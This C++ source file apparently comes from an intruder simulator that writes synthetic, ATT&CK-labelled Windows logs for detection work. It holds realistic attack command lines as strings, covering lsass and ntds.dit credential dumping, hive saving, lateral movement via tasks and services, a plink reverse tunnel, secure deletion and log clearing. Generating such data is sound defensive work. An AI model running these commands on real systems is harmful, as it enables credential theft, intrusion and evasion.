#include "simulate/intruder_objectives.h"

#include <fmt/format.h>

#include <array>

#include "simulate/intruder_implant.h"
#include "simulate/traffic.h"

namespace noroshi {
namespace {

constexpr std::string_view kPowerShell = "WindowsPowerShell\\v1.0\\powershell";

std::string AccountOf(const Foothold& at) {
  return at.session.account == nullptr ? std::string() : at.session.account->name;
}

struct Command {
  std::string_view program;
  std::string arguments;
};

// In an order of his own, `count` of them.
void RunSome(Intruder& intruder, Foothold& at, std::vector<Command> commands, std::size_t count) {
  SeededRandom& random = intruder.random();
  while (commands.size() > count) {
    commands.erase(commands.begin() + static_cast<std::ptrdiff_t>(random.Below(commands.size())));
  }
  for (const Command& command : commands) {
    RunCommand(intruder, at, command.program, command.arguments);
    intruder.Pass(4, 40);
  }
}

}  // namespace

void Survey(Intruder& intruder, Foothold& at) {
  const World& world = intruder.world();
  const LabelScope scope(*at.log, intruder.Step(at.host(), {"D3-11"},
                                                {"T1049", "T1057", "T1087.002", "T1135", "T1016"},
                                                "Commands about connections, processes, shares and "
                                                "accounts in a row",
                                                AccountOf(at)));
  const Host& files =
      world.organisation.hosts[world.organisation.Find(at.host().site, Role::kFileServer)];
  RunSome(intruder, at,
          {{"systeminfo", ""},
           {"ipconfig", "/all"},
           {"netstat", "-anop tcp"},
           {"tasklist", "/v"},
           {"net", fmt::format("view \\\\{} /all", files.address)},
           {"net", fmt::format("user {} /domain", world.organisation.head_office_admin.name)},
           {"net", "group \"domain admins\" /domain"},
           {"quser", ""},
           {"nslookup", files.computer},
           {"route", "print"},
           {"whoami", "/all"}},
          intruder.random().Between(5, 9));
}

void QueryDirectory(Intruder& intruder, Foothold& at) {
  const LabelScope scope(*at.log,
                         intruder.Step(at.host(), {"D3-10"}, {"T1087.002", "T1018", "T1482"},
                                       "The directory is read with tools for "
                                       "administrators",
                                       AccountOf(at)));
  const std::string file = fmt::format("{}{}", at.folder, intruder.names().Random(3));
  RunSome(intruder, at,
          {{"csvde", fmt::format("-f {}.log -r (objectClass=user)", file)},
           {"dsquery", "computer -limit 0"},
           {"nltest", "/domain_trusts /all_trusts"},
           {"ldifde", fmt::format("-f {}.txt -r (objectClass=computer)", file)}},
          intruder.random().Between(1, 3));
}

void ListComputersByScript(Intruder& intruder, Foothold& at) {
  const LabelScope scope(
      *at.log, intruder.Step(at.host(), {"D3-12"}, {"T1018", "T1059.001"},
                             "PowerShell lists the computers of the domain", AccountOf(at)));
  const std::string text =
      "Get-ADComputer -Filter * -Properties IPv4Address,OperatingSystem | select "
      "Name,IPv4Address,OperatingSystem";
  RunCommand(intruder, at, kPowerShell, fmt::format("-c \"{}\"", text));
  RunScript(*at.log, intruder.Pass(1, 2), text);
  intruder.Pass(20, 100);
}

void ScanNetwork(Intruder& intruder, Foothold& at, std::uint16_t port) {
  World& world = intruder.world();
  const LabelScope scope(*at.log,
                         intruder.Step(at.host(), {"D3-13"}, {"T1046"},
                                       fmt::format("Port {} is tried on many machines", port)));
  const Process process = at.has_implant() ? at.implant : OpenShell(intruder, at, "");
  std::uint64_t tried = 0;
  for (const HostLog& log : world.logs) {
    if (&log == at.log || tried >= 40) continue;
    const bool open = log.host().server() || port != 3'389 || tried % 3 == 0;
    Reach(world, *at.log, intruder.Pass(1, 6), process, log.host(),
          {.port = port, .sent = 60, .received = 40, .seconds = 1, .state = open ? "SF" : "REJ"});
    ++tried;
  }
}

namespace {

// Application log: where ESENT made a database that is no domain controller's own.
void LogDatabaseCopy(HostLog& log, Timestamp time, const std::string& copy) {
  const std::string head = "lsass\n612,D,0\n\n1\n" + copy;
  log.Add(CatalogEvent::kDatabaseCreated, time, {{"", head + "\n0\n[1] 0.000"}});
  log.Add(CatalogEvent::kDatabaseDetached, Later(time, 16), {{"", head + "\n0\n[1] 0.000\n0"}});
}

}  // namespace

void TakeDirectory(Intruder& intruder, Foothold& at) {
  HostLog& log = *at.log;
  SeededRandom& random = intruder.random();
  const std::string folder = fmt::format(
      "C:\\{}\\{}", random.Chance(50) ? "PerfLogs" : "Windows\\Temp", intruder.names().Random(3));
  const unsigned how = static_cast<unsigned>(random.Below(3));
  const LabelScope scope(
      log, intruder.Step(
               at.host(), {how == 2 ? "D3-09" : "D3-08"}, {how == 2 ? "T1003.006" : "T1003.003"},
               how == 2 ? "The secrets of all accounts are replicated to a machine that is "
                          "no controller"
                        : "The directory database is copied",
               AccountOf(at)));
  if (how == 0) {
    RunCommand(intruder, at, "ntdsutil",
               fmt::format("\"ac i ntds\" \"ifm\" \"create full {}\" q q", folder));
    LogDatabaseCopy(log, intruder.Pass(4, 9), folder + "\\Active Directory\\ntds.dit");
  } else if (how == 1) {
    RunCommand(intruder, at, "vssadmin", "create shadow /for=C:");
    intruder.Pass(10, 30);
    OpenShell(
        intruder, at,
        fmt::format("copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy{}\\Windows\\NTDS\\"
                    "ntds.dit {}\\n.dit",
                    random.Between(1, 9), folder));
  } else {
    ReplicateSecrets(log, intruder.Pass(3, 9), at.session);
  }
  intruder.Pass(60, 300);
}

void SaveHives(Intruder& intruder, Foothold& at) {
  const LabelScope scope(
      *at.log, intruder.Step(at.host(), {"D3-08"}, {"T1003.002", "T1003.004"},
                             "The hives with password hashes are saved to files", AccountOf(at)));
  for (const std::string_view hive : {"sam", "system", "security"}) {
    RunCommand(intruder, at, "reg",
               fmt::format("save hklm\\{} {}{}", hive, at.folder, intruder.names().Random(2)));
    intruder.Pass(5, 20);
  }
}

void ReadLsass(Intruder& intruder, Foothold& at) {
  HostLog& log = *at.log;
  SeededRandom& random = intruder.random();
  const LabelScope scope(log, intruder.Step(at.host(), {"D3-08"}, {"T1003.001"},
                                            "The memory of lsass is read", AccountOf(at)));
  Process reader;
  if (random.Chance(40)) {
    reader =
        RunCommand(intruder, at, "rundll32",
                   fmt::format("C:\\Windows\\System32\\comsvcs.dll, MiniDump {} {}{}.dmp full",
                               random.Between(500, 900), at.folder, intruder.names().Random(3)));
  } else {
    const Process shell = OpenShell(intruder, at, "");
    const std::string image = at.folder + intruder.names().Random(2) + ".exe";
    reader = StartProgram(
        log, intruder.Pass(1, 4), shell, image,
        fmt::format("{} -accepteula -ma lsass.exe {}.dmp", image, intruder.names().Random(3)),
        shell.session,
        {"procdump", "Sysinternals process dump utility", "ProcDump",
         "Sysinternals - www.sysinternals.com"});
  }
  OpenProcess(log, intruder.Pass(1, 2), reader, "lsass.exe",
              random.Chance(50) ? "0x1fffff" : "0x1438");
  intruder.Pass(30, 200);
}

namespace {

// Another account's password is used on the machine where he is: 4648 there.
void UseAccount(Intruder& intruder, Foothold& from, const HostLog& target, const Account& account,
                const Process& program) {
  if (from.session.account == &account) return;
  UseOtherAccount(*from.log, intruder.now(),
                  from.has_implant() ? from.implant.session : from.session, account,
                  target.host().name, program.image);
}

// Files that come over a share are written by the system itself.
void WriteOverShare(Intruder& intruder, Foothold& at, const std::string& path) {
  Process writer = SystemProcess(*at.log, "System");
  writer.image = "System";
  WriteFile(*at.log, intruder.now(), writer, path);
}

}  // namespace

Foothold MoveByTask(Intruder& intruder, Foothold& from, HostLog& target, const Account& account) {
  Foothold at;
  at.log = &target;
  ChooseDisguise(intruder, at);
  const std::string image = at.folder + at.names.program;
  const Label label =
      intruder.Step(target.host(), {"D3-02", "D2-05", "D3-14"}, {"T1053.005", "T1021.002", "T1570"},
                    fmt::format("From {}, files are copied to {} and started there "
                                "by a task that vanishes again",
                                from.host().name, target.host().name),
                    account.name);
  const LabelScope scope(target, label);
  const LabelScope at_source(*from.log, label);
  const std::string& address = from.host().address;
  const Process author = from.has_implant() ? from.implant : OpenShell(intruder, from, "");
  UseAccount(intruder, from, target, account, author);
  Reach(intruder.world(), *from.log, intruder.now(), author, target.host(), {.service = "smb"});
  at.session = LogOn(target, intruder.now(), account, 3, {address, "-", false});
  OpenShare(target, intruder.Pass(1, 3), at.session, address,
            {"\\\\*\\C$", image.substr(3), "0x17019f", true});
  WriteOverShare(intruder, at, image);
  OpenShare(target, intruder.Pass(1, 3), at.session, address,
            {"\\\\*\\C$", (at.folder + at.names.library).substr(3), "0x17019f", true});
  WriteOverShare(intruder, at, at.folder + at.names.library);
  OpenShare(target, intruder.Pass(3, 9), at.session, address,
            {"\\\\*\\IPC$", "atsvc", "0x3", true});
  const Task task{"\\" + at.names.folder, image, ""};
  CreateTask(target, intruder.Pass(1, 2), at.session, task);
  RunTask(target, intruder.Pass(1, 3), task);
  DeleteTask(target, Later(intruder.now(), intruder.random().Between(30, 200)), at.session, task);
  intruder.Pass(1, 2);
  return at;
}

Foothold MoveByServices(Intruder& intruder, Foothold& from, HostLog& target,
                        const Account& account) {
  Foothold at;
  at.log = &target;
  ChooseDisguise(intruder, at);
  const Label label = intruder.Step(target.host(), {"D3-06", "D3-03"}, {"T1569.002", "T1021.002"},
                                    fmt::format("From {}, commands run on {} as services whose "
                                                "output goes to a share",
                                                from.host().name, target.host().name),
                                    account.name);
  const LabelScope scope(target, label);
  const LabelScope at_source(*from.log, label);
  const std::string& address = from.host().address;
  const Process author = from.has_implant() ? from.implant : OpenShell(intruder, from, "");
  Reach(intruder.world(), *from.log, intruder.now(), author, target.host(), {.service = "smb"});
  UseAccount(intruder, from, target, account, author);
  at.session = LogOn(target, intruder.now(), account, 3, {address, from.host().name, true});
  constexpr std::string_view kLetters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
  for (const std::string& command :
       {std::string("whoami"),
        fmt::format("copy \\\\{}\\c$\\{} {}", address, at.names.program, at.folder),
        fmt::format("start {}{}", at.folder, at.names.program)}) {
    const std::string output = fmt::format("__{}", EpochSeconds(intruder.now()));
    const std::string line =
        fmt::format("%COMSPEC% /Q /c {} 1> \\\\127.0.0.1\\ADMIN$\\{} 2>&1", command, output);
    OpenShare(target, intruder.Pass(1, 3), at.session, address,
              {"\\\\*\\IPC$", "svcctl", "0x3", true});
    InstallService(target, intruder.Pass(1, 2), at.session, intruder.random().Letters(kLetters, 8),
                   line);
    StartProcess(
        target, intruder.Pass(1, 2), ServiceManager(at), "C:\\Windows\\System32\\cmd.exe",
        fmt::format("C:\\Windows\\system32\\cmd.exe /Q /c {} 1> \\\\127.0.0.1\\ADMIN$\\{} 2>&1",
                    command, output),
        {});
    OpenShare(target, intruder.Pass(1, 3), at.session, address,
              {"\\\\*\\ADMIN$", output, "0x120089", false});
  }
  return at;
}

void CollectFromShare(Intruder& intruder, Foothold& at, HostLog& server, const Account& account) {
  const Label label =
      intruder.Step(at.host(), {"D3-14", "D3-22"}, {"T1039", "T1005"},
                    fmt::format("Documents are copied from {}", server.host().name), account.name);
  const LabelScope scope(*at.log, label);
  const LabelScope at_server(server, label);
  const std::string drive = fmt::format("\\\\{}\\share", server.host().name);
  RunCommand(intruder, at, "net", fmt::format("use {}", drive));
  intruder.Pass(3, 9);
  RunCommand(
      intruder, at, "robocopy",
      fmt::format("{}\\plan {}d *.doc* *.xls* *.pdf *.jtd /s /maxage:20200101", drive, at.folder));
  const LogonSession session =
      LogOn(server, intruder.now(), account, 3, {at.host().address, "-", false});
  for (std::uint64_t i = intruder.random().Between(30, 60); i > 0; --i) {
    OpenShare(server, intruder.Pass(1, 2), session, at.host().address,
              {"\\\\*\\share", fmt::format("plan\\{}.{}", intruder.names().Document(),
                                           i % 2 == 0 ? "docx" : "pdf")});
  }
  LogOff(server, intruder.Pass(1, 20), session, 3);
}

void PackArchives(Intruder& intruder, Foothold& at) {
  HostLog& log = *at.log;
  SeededRandom& random = intruder.random();
  const LabelScope scope(
      log, intruder.Step(at.host(), {"D3-16", "D3-15"}, {"T1560.001", "T1074.001"},
                         "Documents are packed into archives with a password", AccountOf(at)));
  const bool renamed = random.Chance(50);
  const std::string rar = at.folder + (renamed ? intruder.names().Random(2) + ".exe" : "rar.exe");
  const std::string archive = at.folder + intruder.names().Random(random.Between(2, 4)) + ".rar";
  const Process shell = OpenShell(intruder, at, "");
  const Process packer =
      StartProgram(log, intruder.Pass(2, 9), shell, rar,
                   fmt::format("{} a -r -hp{} -v{}m {} {}d", rar, intruder.names().Random(8),
                               random.Between(50, 400), archive, at.folder),
                   shell.session, {"Rar.exe", "Command line RAR", "WinRAR", "Alexander Roshal"});
  WriteFile(log, intruder.Pass(20, 200), packer,
            fmt::format("{}.part1.rar", archive.substr(0, archive.size() - 4)));
  intruder.Pass(30, 300);
}

void Upload(Intruder& intruder, Foothold& at) {
  World& world = intruder.world();
  SeededRandom& random = intruder.random();
  const LabelScope scope(*at.log,
                         intruder.Step(at.host(), {"D3-18"}, {"T1048", "T1041"},
                                       "The archives go to an outside address", AccountOf(at)));
  WebRequest request;
  request.address = intruder.NewAddress();
  request.method = "POST";
  request.path = "/" + intruder.names().Word(3);
  request.received = 2'000;
  for (std::uint64_t i = random.Between(2, 5); i > 0; --i) {
    request.sent = random.Between(70'000'000, 260'000'000);
    request.seconds = static_cast<unsigned>(random.Between(60, 400));
    Fetch(world, *at.log, intruder.now(),
          at.has_implant() ? at.implant : OpenShell(intruder, at, ""), request);
    intruder.Pass(300, 700);
  }
}

void OpenTunnel(Intruder& intruder, Foothold& at) {
  World& world = intruder.world();
  HostLog& log = *at.log;
  const LabelScope scope(log, intruder.Step(at.host(), {"D2-21", "D2-20"}, {"T1572", "T1090"},
                                            "An SSH client under another name forwards ports to "
                                            "outside",
                                            AccountOf(at)));
  const std::string address = intruder.NewAddress();
  const std::string image = at.folder + intruder.names().Random(3) + ".exe";
  const Process shell = OpenShell(intruder, at, "");
  const Process plink = StartProgram(
      log, intruder.Pass(1, 9), shell, image,
      fmt::format("{} -N -R {}:127.0.0.1:3389 -P 443 {}@{} -pw {}", image,
                  intruder.random().Between(20'000, 60'000), intruder.names().Word(2), address,
                  intruder.names().Random(9)),
      shell.session,
      {"Plink", "Command-line SSH, Telnet, and Rlogin client", "PuTTY suite", "Simon Tatham"});
  for (std::uint64_t i = 0; i < 4; ++i) {
    Fetch(world, log, intruder.Pass(5, 300), plink,
          {.address = address, .sent = 900'000, .received = 4'000'000, .seconds = 1'200});
  }
}

void WipeTools(Intruder& intruder, Foothold& at) {
  HostLog& log = *at.log;
  const LabelScope scope(
      log, intruder.Step(at.host(), {"D3-21"}, {"T1070.004", "T1070.006"},
                         "A program's time is set back and tools are wiped", AccountOf(at)));
  ForgeFileTime(log, intruder.now(), at.has_implant() ? at.implant : OpenShell(intruder, at, ""),
                at.folder + at.names.program,
                {intruder.now().ticks - (700 + intruder.random().Below(900)) * kTicksPerDay});
  const Process shell = OpenShell(intruder, at, "");
  const std::string image = at.folder + intruder.names().Random(3) + ".exe";
  StartProgram(log, intruder.Pass(5, 40), shell, image,
               fmt::format("{} -accepteula -p 3 -s {}d", image, at.folder), shell.session,
               {"sdelete.exe", "Secure file delete", "Sysinternals Sdelete",
                "Sysinternals - www.sysinternals.com"});
  DeleteFile(log, intruder.Pass(2, 20), shell, at.folder + intruder.names().Random(3) + ".exe");
}

void ClearLogs(Intruder& intruder, Foothold& at) {
  HostLog& log = *at.log;
  const LabelScope scope(
      log, intruder.Step(at.host(), {"D3-20"}, {"T1685.005"}, "Logs are emptied", AccountOf(at)));
  std::vector<Channel> cleared = {Channel::kSecurity};
  if (intruder.random().Chance(50)) cleared.push_back(Channel::kPowerShell);
  if (intruder.random().Chance(30)) cleared.push_back(Channel::kSysmon);
  const Process shell = OpenShell(
      intruder, at, "for /F \"tokens=*\" %1 in ('wevtutil.exe el') DO wevtutil.exe cl \"%1\"");
  for (const Channel channel : cleared) {
    StartProcess(log, intruder.Pass(1, 3), shell, "C:\\Windows\\System32\\wevtutil.exe",
                 fmt::format("wevtutil.exe cl \"{}\"", ChannelName(channel)), shell.session);
    ClearLog(log, intruder.Pass(1, 2), at.session, channel);
  }
}

}  // namespace noroshi
